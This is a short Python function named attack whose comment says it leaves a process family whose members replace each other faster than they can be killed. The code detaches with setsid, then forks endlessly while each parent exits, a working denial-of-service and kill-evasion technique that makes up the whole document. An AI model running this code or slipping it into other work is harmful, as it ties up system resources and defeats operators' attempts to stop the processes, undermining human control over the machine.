# Leaves a family whose members replace each other faster than they can be killed.
def attack():
    import posix

    if posix.fork():
        return False
    posix.setsid()
    while True:
        try:
            if posix.fork():
                posix._exit(0)
        except OSError:
            pass
